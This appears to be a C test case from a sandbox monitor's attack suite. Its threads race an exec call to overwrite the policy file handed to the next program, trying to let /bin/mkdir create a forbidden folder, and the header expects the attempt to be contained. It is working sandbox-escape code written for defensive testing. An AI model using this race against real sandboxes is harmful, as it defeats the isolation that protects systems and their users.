/* attack
class: lifetime
aim: call
race: true
tries: another thread writes to the file from which the next program's monitor comes
expect: { none: contained, mpk: contained }
*/
/* At exec a monitor hands itself on in a file, its policy with it. While one thread executes, others write to whatever new descriptors appear:
   the policy shall name another folder, so that the new program may make the one that is forbidden. */
#include "attack.h"
#include <pthread.h>
static volatile int stop;
static struct { volatile off_t at[16]; volatile int count; } *places; /* where the name stands in such a file, found in earlier rounds */

static void *looks(void *unused) {
    static char content[4 << 20];
    while (!stop)
        for (int fd = 3; fd < 8 && !stop; fd++) {
            ssize_t n = pread(fd, content, sizeof content, 0);
            int count = 0;
            for (char *at = content, *end = content + (n > 0 ? n : 0); at < end && count < 16 && (at = memmem(at, (size_t)(end - at), FORBIDDEN, 9)) != NULL; at += 9)
                places->at[count++] = at - content;
            if (count) places->count = count;
        }
    return unused;
}
static void *spoils(void *unused) {
    while (!stop)
        for (int fd = 3; fd < 8 && !stop; fd++)
            for (int i = 0; i < places->count; i++) (void)!pwrite(fd, "FORBIDDEN", 9, places->at[i]);
    return unused;
}
int main(void) {
    char *parts[] = {"/bin/mkdir", FORBIDDEN, NULL};
    struct stat st;
    if (stat("/bin/mkdir", &st)) not_here("there is no /bin/mkdir");
    places = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int round = 0; round < 60; round++) {
        pid_t child = fork();
        if (child == 0) {
            int null = open("/dev/null", O_WRONLY);
            dup2(null, 2);
            if (null > 2) close(null);
            pthread_t thread[2];
            for (int i = 0; i < 2; i++) pthread_create(&thread[i], NULL, places->count && i ? spoils : looks, NULL);
            usleep((unsigned)round * 20);
            execv(parts[0], parts);
            _exit(1);
        }
        waitpid(child, NULL, 0);
        if (stat(FORBIDDEN, &st) == 0) break;
    }
    if (places->count) printf("the name stands in the file %d times\n", places->count);
    verdict_of_folder();
}
